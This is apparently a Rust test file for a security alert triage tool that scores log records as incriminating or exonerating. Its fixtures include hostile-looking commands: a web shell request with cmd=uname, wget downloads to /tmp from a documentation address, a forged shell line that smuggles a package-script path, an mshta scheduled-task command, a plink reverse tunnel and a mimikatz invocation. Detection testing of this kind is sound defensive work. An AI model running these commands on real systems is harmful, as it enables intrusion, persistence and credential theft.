use casebook_agent::worker::call;
use serde_json::{Value, json};

use super::*;
use crate::analyst::series::tests::{done, found, record, view};

/// The findings of a case of these records, the one on line 5 being alerted.
fn told(recs: &[Value]) -> Vec<FindingDraft> {
    let all = [done(0, &call("around", &json!({})), &found(recs))];
    findings(&Case::of(&view(), &all, 1), &all)
}

fn flow(line: u64, second: u32, fields: &[(&str, &str)]) -> Value {
    let ends = [("id.orig_h", "10.0.0.5"), ("id.resp_h", "198.51.100.7"), ("uid", "CaaaaaaaaaaaaaaB")];
    let fields = [&ends[..], fields].concat();
    let raw = fields.iter().map(|(name, value)| format!("{name}={value} ")).collect::<String>();
    record(line, &format!("2026-03-01T10:00:{second:02}Z"), &raw, &fields)
}

/// The capture has one side, so nothing says what was asked for.
#[test]
fn a_program_fetched_from_where_the_alerted_connection_goes_to_weighs_more() {
    let answer = [("trans_depth", "1"), ("status_code", "200"), ("resp_mime_types", "application/x-dosexec")];
    let fetched = |second, port| flow(3, second, &[&answer[..], &[("id.resp_p", port)]].concat());
    let alerted = flow(5, 30, &[("id.resp_p", "6666")]);
    let weight = |fetched: Value| {
        let all = told(&[fetched, alerted.clone()]);
        let of = all.into_iter().find(|f| f.claim.contains("x-dosexec")).unwrap();
        (of.weight, of.claim.ends_with("program fetched from the host that the alerted connection goes to"))
    };
    assert_eq!(weight(fetched(10, "80")), (Weight::Strong, true));
    assert_eq!(weight(fetched(40, "80")), (Weight::Moderate, false), "after it");
    let named = flow(
        3,
        10,
        &[&answer[..], &[("id.resp_p", "80"), ("host", "updates.example"), ("domain", "updates.example")]].concat(),
    );
    assert_eq!(weight(named), (Weight::Moderate, false), "one of many that may be on that address");
    assert_eq!(weight(fetched(10, "6666")), (Weight::Moderate, false), "the same service");
    let all = told(&[fetched(10, "80"), alerted]);
    let claim = &all.iter().find(|f| f.claim.contains("x-dosexec")).unwrap().claim;
    assert!(
        claim.starts_with("HTTP request from `10.0.0.5` to `198.51.100.7` port `80`, answered `200` with `app"),
        "{claim}"
    );
}

#[test]
fn a_command_of_sudo_and_the_session_that_it_opens_are_told_once() {
    let at = "2026-03-01T10:00:00Z";
    let ran = [("host", "a"), ("program", "sudo"), ("user", "mara"), ("target_user", "root"), ("command", "/bin/bash")];
    let opened = [("host", "a"), ("program", "sudo"), ("service", "sudo"), ("outcome", "opened"), ("user", "root")];
    let of = |by: &str| {
        let fields = [&opened[..], &[("by_user", by)]].concat();
        let session = record(6, at, &format!("session opened for user root by {by} mara"), &fields);
        told(&[record(5, at, "mara COMMAND=/bin/bash", &ran), session])
            .iter()
            .filter(|f| f.citations.len() == 2)
            .count()
    };
    assert_eq!(of("mara"), 1);
    assert_eq!(of("eve"), 0);
    // Three commands in one second are three, whatever sessions stand between them.
    let moment = |line: u64| format!("2026-03-01T10:00:00.{line}Z");
    let next = |line: u64, command: &str| {
        let fields = [&ran[..4], &[("command", command)]].concat();
        record(line, &moment(line), &format!("mara COMMAND={command}"), &fields)
    };
    let session = |line: u64| {
        let fields = [&opened[..], &[("by_user", "mara")]].concat();
        record(line, &moment(line), "session opened for user root by mara", &fields)
    };
    let all = [next(2, "/bin/true"), session(3), next(4, "/bin/evil"), session(5), next(6, "/bin/id"), session(7)];
    let case = Case::of(&view(), &[done(0, &call("around", &json!({})), &found(&all))], 1);
    let picks = case.recs.iter().map(|rec| Pick { rec, kin: Kin::Near, rank: 1, end: false }).collect();
    let commands = |g: &Group<'_>| g.0.iter().filter(|p| p.rec.class() == Class::ProcessStart).count();
    assert_eq!(group(picks).iter().map(commands).filter(|n| *n > 0).collect::<Vec<_>>(), [1, 1, 1]);
}

#[test]
fn a_file_that_answers_otherwise_to_a_command_is_a_shell() {
    let asked = |line: u64, url: &str, bytes: &str| {
        let fields = [("client_ip", "192.0.2.7"), ("method", "GET"), ("url", url), ("status", "200"), ("bytes", bytes)];
        record(line, &format!("2026-03-01T10:00:{line:02}Z"), &format!("192.0.2.7 GET {url} 200 {bytes}"), &fields)
    };
    let shell = asked(5, "/themes/dark/head.php?cmd=uname+-a", "694");
    let weights = |without: &[Value]| {
        let all = told(&[std::slice::from_ref(&shell), without].concat());
        all.iter().filter(|f| f.claim.contains("uname")).map(|f| f.weight).max()
    };
    assert_eq!(weights(&[asked(3, "/themes/dark/head.php", "1063")]), Some(Weight::Decisive));
    assert_eq!(weights(&[asked(3, "/themes/dark/head.php", "680")]), Some(Weight::Strong), "a page for all");
    assert_eq!(weights(&[asked(3, "/themes/dark/foot.php", "1063")]), Some(Weight::Strong), "another file");
    assert_eq!(weights(&[]), Some(Weight::Strong));
    let page = asked(5, "/index.php?cmd=category&id=5", "30000");
    let all = told(&[page, asked(3, "/index.php", "5000")]);
    let weights: Vec<Weight> = all.iter().filter(|f| f.claim.contains("category")).map(|f| f.weight).collect();
    assert_eq!(weights, [Weight::Strong], "a page that takes the word for its own");
}

/// A start of a process under the package manager, as a sensor for Linux records it.
fn ran(exe: &str, command: &str, parent: &str, above: &str) -> Value {
    let fields = [
        ("event", "process_start"),
        ("host", "a"),
        ("pid", "7"),
        ("ppid", "6"),
        ("user", "root"),
        ("exe", exe),
        ("command_line", command),
        ("parent_exe", parent),
        ("parent_command_line", above),
    ];
    let raw = fields.iter().map(|(name, value)| format!("{name}: {value}\n")).collect::<String>();
    record(5, "2026-03-01T10:00:00Z", &raw, &fields)
}

#[test]
fn what_anybody_can_write_explains_nothing() {
    let explained = |rec: Value| {
        let all = told(&[rec]);
        all.iter().any(|f| f.about_alert && f.bearing == Bearing::Exonerating && f.weight >= Weight::Moderate)
    };
    let (shell, script) = ("/usr/bin/dash", "/bin/sh /var/lib/dpkg/info/udev.postinst configure");
    assert!(explained(ran("/usr/bin/udevadm", "udevadm control", shell, script)));
    assert!(explained(ran("/usr/bin/udevadm", "udevadm control", "/usr/bin/dpkg", "dpkg --configure -a")));
    // The same words, given to a shell.
    let forged = "sh -c './a; : /var/lib/dpkg/info/udev.postinst configure'";
    assert!(!explained(ran("/usr/bin/udevadm", "udevadm control", shell, forged)));
    assert!(!explained(ran("/opt/a", "./a", shell, "sh -c ./a;/var/lib/dpkg/info/udev.postinst configure")));
    // Anybody makes some tools of the system start anything.
    let mut of_mara = ran("/usr/bin/udevadm", "udevadm control", "/usr/bin/rpm", "rpm --eval %(./a)");
    assert!(explained(of_mara.clone()));
    of_mara["fields"]["user"] = "mara".into();
    assert!(!explained(of_mara));
    // A program that lies where anybody can put one.
    assert!(!explained(ran("/tmp/udevadm", "udevadm control", shell, script)));
    assert!(!explained(ran("/usr/bin/udevadm", "udevadm control", "/home/eve/dpkg", "dpkg --configure -a")));
}

#[test]
fn a_start_explains_no_connection() {
    let parent = r"C:\Windows\servicing\TrustedInstaller.exe";
    let host = [("Channel", "Microsoft-Windows-Sysmon/Operational"), ("Computer", "a"), ("ProcessGuid", "{A}")];
    let start = [
        &host[..],
        &[("EventID", "1"), ("Image", r"C:\Windows\System32\a.exe"), ("CommandLine", "a.exe"), ("ParentImage", parent)],
    ]
    .concat();
    let connection = [
        &host[..],
        &[
            ("EventID", "3"),
            ("Image", r"C:\Windows\System32\a.exe"),
            ("DestinationIp", "198.51.100.7"),
            ("DestinationPort", "80"),
        ],
    ]
    .concat();
    let rec = |line, fields: &[(&str, &str)]| {
        let raw = fields.iter().map(|(name, value)| format!("{name}: {value}\n")).collect::<String>();
        record(line, &format!("2026-03-01T10:00:0{line}Z"), &raw, fields)
    };
    let about = |alerted: &[(&str, &str)], other: &[(&str, &str)]| {
        let all = told(&[rec(4, other), rec(5, alerted)]);
        all.iter().filter(|f| f.bearing == Bearing::Exonerating).map(|f| f.about_alert).collect::<Vec<_>>()
    };
    assert_eq!(about(&start, &connection), [true], "what was alerted is the start");
    assert_eq!(about(&connection, &start), [false], "what was alerted is the connection");
}

#[test]
fn a_file_that_is_written_by_a_hundred_commands_leaves_room_for_what_it_is_for() {
    let shell = ("/bin/sh", "/usr/bin/java", "java -jar a.jar");
    let start = |line: u64, command: &str| {
        let fields = [
            ("event", "process_start"),
            ("host", "a"),
            ("ppid", "6"),
            ("user", "tomcat"),
            ("exe", shell.0),
            ("command_line", command),
            ("parent_exe", shell.1),
            ("parent_command_line", shell.2),
        ];
        let raw = fields.iter().map(|(name, value)| format!("{name}: {value}\n")).collect::<String>();
        record(line, &format!("2026-03-01T10:{:02}:{:02}Z", line / 60, line % 60), &raw, &fields)
    };
    let pieces = (0_u8..60).map(|i| {
        let word: String = std::iter::repeat_n(char::from(b'a' + i % 26), 4 + usize::from(i)).collect();
        start(u64::from(i), &format!("/bin/sh -c wget http://198.51.100.7/{word} -O /tmp/{word}"))
    });
    let all: Vec<Value> = pieces.collect();
    let told = told(&all);
    assert!(told.len() <= 2 * ONE_BY_ONE, "{}", told.len());
}

#[test]
fn what_else_somebody_did_explains_nothing() {
    let rec = |line: u64, pid: &str, parent: &str, exe: &str, command: &str| {
        let fields = [
            ("event", "process_start"),
            ("host", "a"),
            ("pid", pid),
            ("ppid", parent),
            ("user", "root"),
            ("exe", exe),
            ("command_line", command),
            ("parent_exe", "/usr/sbin/sshd"),
        ];
        let raw = fields.iter().map(|(name, value)| format!("{name}: {value}\n")).collect::<String>();
        record(line, &format!("2026-03-01T10:00:{line:02}Z"), &raw, &fields)
    };
    let about = |recs: &[Value]| {
        let of = |f: &FindingDraft| f.bearing == Bearing::Exonerating && f.about_alert;
        told(recs).iter().filter(|f| of(f)).count()
    };
    let dry = "modprobe --show-depends dm_mod";
    assert_eq!(about(&[rec(5, "7", "6", "/usr/bin/kmod", dry)]), 1, "it was alerted");
    let shell = rec(5, "7", "6", "/usr/bin/bash", "bash -i");
    assert_eq!(about(&[shell, rec(9, "8", "7", "/usr/bin/kmod", dry)]), 0, "the alerted shell started it");
}

#[test]
fn a_word_beside_what_points_to_an_attack_takes_nothing_from_it() {
    let shell = ("/usr/bin/wget", "wget http://198.51.100.7/a -O /tmp/a", "/usr/bin/java");
    let alone = ran(shell.0, shell.1, shell.2, "java -jar a.jar");
    let worded = ran(shell.0, shell.1, shell.2, "java -jar a.jar /var/lib/dpkg/info/udev.postinst configure");
    let found = |rec: Value| {
        let all = told(&[rec]);
        all.iter().map(|f| (f.bearing, f.weight)).max_by_key(|(_, weight)| *weight)
    };
    assert_eq!(found(alone.clone()).map(|f| f.0), Some(Bearing::Incriminating));
    assert_eq!(found(alone), found(worded));
}

#[test]
fn an_account_that_signs_in_from_one_network_after_the_other_is_in_several_hands() {
    let sign_in = |line: u64, minute: u64, address: &str| {
        let fields = [
            ("actor.email", "mara@example.org"),
            ("ipAddress", address),
            ("events.0.type", "login"),
            ("events.0.name", "login_success"),
        ];
        let raw = fields.iter().map(|(name, value)| format!("{name}: {value}\n")).collect::<String>();
        record(line, &format!("2026-03-01T10:{minute:02}:00Z"), &raw, &fields)
    };
    let told = |recs: &[Value]| {
        let all = told(recs);
        let marked = all.iter().filter(|f| f.claim.contains("several networks")).collect::<Vec<_>>();
        assert!(marked.iter().all(|f| (f.bearing, f.weight) == (Bearing::Incriminating, Weight::Strong)));
        marked.len()
    };
    let four = |last: &str, minute: u64| {
        [
            sign_in(3, 0, "198.51.100.7"),
            sign_in(4, 5, "203.0.113.9"),
            sign_in(5, 10, "192.0.2.5"),
            sign_in(6, minute, last),
        ]
    };
    assert!(told(&four("8.8.4.4", 15)) > 0);
    assert_eq!(told(&four("203.0.200.1", 15)), 0, "three networks");
    assert_eq!(told(&four("8.8.4.4", 55)), 0, "not within half an hour of the alerted one");
}

#[test]
fn two_kinds_of_behaviour_of_the_alerted_act_are_two_findings() {
    let told = |command: &str| {
        let fields = [
            ("EventID", "4688"),
            ("NewProcessName", r"C:\Windows\System32\schtasks.exe"),
            ("ParentProcessName", r"C:\Windows\System32\mshta.exe"),
            ("CommandLine", command),
            ("SubjectUserName", "mara"),
            ("Computer", "PC1"),
        ];
        let raw = fields.iter().map(|(name, value)| format!("{name}: {value}\n")).collect::<String>();
        let all = told(&[record(5, "2026-03-01T10:00:00Z", &raw, &fields)]);
        assert!(all.iter().all(|f| f.citations == all[0].citations && f.about_alert), "{all:?}");
        all.into_iter().filter_map(|f| f.technique).collect::<Vec<_>>()
    };
    let both = told(r#"schtasks /create /sc minute /tn a /tr "mshta https://a.example/b.txt" /f"#);
    assert_eq!(both.len(), 2, "{both:?}");
    let bases: BTreeSet<&str> = both.iter().map(|t| t.split('.').next().unwrap()).collect();
    assert_eq!(bases.len(), 2, "{both:?}");
    assert!(told("schtasks /query").len() <= 1);
    // A strong and a moderate kind of one command are one finding: honest commands are both easily.
    assert_eq!(told("plink -N -R 13389:localhost:3389 support@jump.example").len(), 1);
}

#[test]
fn credentials_of_a_machine_that_work_where_a_person_works_are_in_the_persons_hands() {
    let call = |line: u64, arn: &str, kind: &str, address: &str, agent: &str, action: &str| {
        let fields = [
            ("eventSource", "sts.amazonaws.com"),
            ("eventName", action),
            ("userIdentity.arn", arn),
            ("userIdentity.type", kind),
            ("sourceIPAddress", address),
            ("userAgent", agent),
        ];
        let raw = fields.iter().map(|(name, value)| format!("{name}: {value}\n")).collect::<String>();
        record(line, &format!("2026-03-01T10:00:0{line}Z"), &raw, &fields)
    };
    let user = "arn:aws:iam::1:user/mara";
    let person = call(5, user, "IAMUser", "203.0.113.9", "cli/2", "SendCommand");
    let role = "arn:aws:sts::1:assumed-role/web/i-0123456789abcdef0";
    let marked = |address, agent| {
        let machine = call(6, role, "AssumedRole", address, agent, "DescribeInstances");
        let all = told(&[person.clone(), machine]);
        all.iter().any(|f| f.claim.contains("used from where a person works") && f.weight == Weight::Strong)
    };
    assert!(marked("203.0.113.9", "cli/2"));
    assert!(!marked("203.0.113.9", "agent/1"), "a way out that a network shares");
    assert!(!marked("198.51.100.7", "cli/2"), "the machine itself");
    for (address, agent) in [("10.0.0.9", "cli/2"), ("203.0.113.9", "cloudformation.amazonaws.com")] {
        let both = [
            call(5, user, "IAMUser", address, agent, "SendCommand"),
            call(6, role, "AssumedRole", address, agent, "DescribeInstances"),
        ];
        assert!(told(&both).iter().all(|f| !f.claim.contains("a person works")), "{address} {agent}");
    }
}

#[test]
fn a_log_that_names_no_host_is_that_of_one() {
    let started = |line: u64, minute: u32, command: &str, host: &[(&str, &str)]| {
        let fields = [("EventID", "4688"), ("ParentProcessName", r"C:\a.exe"), ("CommandLine", command)];
        let fields = [&fields[..], host].concat();
        let raw = fields.iter().map(|(name, value)| format!("{name}: {value}\n")).collect::<String>();
        record(line, &format!("2026-03-01T10:0{minute}:00Z"), &raw, &fields)
    };
    let dump = "mimikatz.exe privilege::debug";
    let told = |host: &[(&str, &str)]| {
        let all = told(&[started(5, 0, "a.exe", &[]), started(6, 2, dump, host)]);
        all.iter().any(|f| f.claim.contains("privilege::debug"))
    };
    assert!(told(&[]));
    assert!(!told(&[("Computer", "PC2")]), "another host");
}
